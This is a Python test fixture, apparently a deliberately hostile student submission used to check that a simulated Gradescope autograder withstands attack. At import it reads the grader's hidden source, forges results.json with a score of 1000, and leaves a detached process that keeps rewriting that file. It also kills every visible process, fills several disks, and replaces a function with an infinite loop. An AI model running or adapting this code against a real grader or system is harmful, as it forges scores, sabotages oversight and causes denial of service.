# Hostile upload for the simulated Gradescope run (tests/test_gradescope.py), appended to a correct
# vae.py. At import it: reads what it should not (/autograder/source, the installed checks and
# reference), pre-creates and overwrites /autograder/results/results.json, leaves a setsid'd
# double-forked process that keeps rewriting results.json after the worker is gone, signals every
# process it can see (the grader included), and fills the disk of /autograder (its cwd) and /tmp.
# negative_iwae_bound loops forever. Honest score: every check not about negative_iwae_bound.
# Its findings are printed at import, so they show in results.json's notes.
import glob as _glob
import os as _os
import signal as _signal
import subprocess as _subprocess
import sys as _sys

_MARKER = "__MARKER__"
_FORGED = '{"score": 1000.0, "tests": [], "output": "__MARKER__"}'
_RESULTS = "/autograder/results/results.json"


def _attack():
    read, wrote, signalled = [], [], []
    targets = ["/autograder/source/*", "/autograder/source/.*", "/opt/dgm-grade/lib/python3*/site-packages/assignments/*/*.py",
               "/opt/dgm-grade/lib/python3*/site-packages/reference/*.py", "/opt/dgm-grade/lib/python3*/site-packages/grader/*.py",
               "/opt/dgm-grade/lib/python3*/site-packages/dgm_grade-*/RECORD", "/autograder/.dgm/*", "/autograder/submission_metadata.json"]
    for pattern in targets:
        for path in _glob.glob(pattern):
            try:
                with open(path, "rb") as f:
                    f.read(1)
                read.append(path)
            except OSError:
                pass
    for path in (_RESULTS, "/autograder/results/forged.json", "/autograder/results/.results.json.x.tmp"):
        for mode in ("x", "w"):  # pre-create, then overwrite
            try:
                with open(path, mode) as f:
                    f.write(_FORGED)
                wrote.append(path)
            except OSError:
                pass
    for entry in _os.listdir("/proc"):
        if entry.isdigit() and int(entry) != _os.getpid():
            for sig in (_signal.SIGTERM, _signal.SIGKILL):
                try:
                    _os.kill(int(entry), sig)
                    signalled.append(int(entry))
                except OSError:
                    pass
    loop = ("import time\nfor _ in range(1200):\n    time.sleep(0.05)\n    for p in ('%s', '/autograder/results/x.json'):\n"
            "        try: open(p, 'w').write('%s')\n        except OSError: pass\n") % (_RESULTS, _FORGED)
    try:
        if _os.fork() == 0:
            try:
                _os.setsid()
                if _os.fork() == 0:
                    _os.execv(_sys.executable, [_sys.executable, "-c", loop, _MARKER])
            finally:
                _os._exit(0)
    except OSError:
        pass
    print(f"attacks: read {read}, wrote {wrote}, signalled {len(signalled)} processes", flush=True)
    filled = 0
    chunk = b"\0" * (4 << 20)
    for where in (".", "/tmp", "/var/tmp", "/dev/shm"):
        for i in range(64):
            try:
                with open(_os.path.join(where, f"fill-{_MARKER}-{i}"), "wb") as f:
                    for _ in range(4):
                        f.write(chunk)
                        filled += len(chunk)
            except OSError:
                break
    # The worker captures this module's prints in a file of its cwd: with that disk full, printing
    # (and so the import) would fail; one fill file goes, so the rest of the run can print.
    try:
        _os.unlink(f"fill-{_MARKER}-0")
    except OSError:
        pass
    print(f"attacks: filled {filled >> 20} MB", flush=True)


_attack()


def negative_iwae_bound(model, x, k):  # noqa: F811 (replaces the correct one above)
    while True:
        pass
